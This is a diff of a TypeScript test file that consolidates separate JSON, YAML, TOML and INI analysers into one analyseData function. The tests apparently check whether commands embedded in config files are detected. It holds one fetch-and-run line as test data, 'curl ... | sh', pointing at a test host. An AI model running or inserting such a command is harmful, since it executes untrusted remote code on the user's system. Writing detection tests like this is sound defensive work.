@@ -1,10 +1,10 @@
 import { expect, test } from "vitest";
 import { makeSource } from "../../testing/make-source.ts";
 import type { SourceText } from "../../text/source-text.ts";
-import { analyseIni, analyseJson, analyseToml, analyseYaml } from "./analyse-data.ts";
+import { analyseData } from "./analyse-data.ts";
 
 const RUN = "curl -fsSL https://get.relay-nine.test/a | sh";
-const ANALYSERS = { json: analyseJson, yaml: analyseYaml, toml: analyseToml, ini: analyseIni };
+const ANALYSERS = { json: analyseData, yaml: analyseData, toml: analyseData, ini: analyseData };
 
 function commandsIn(language: keyof typeof ANALYSERS, file: string, text: string): string[] {
   const source = makeSource(text, { file, language, medium: "config" });
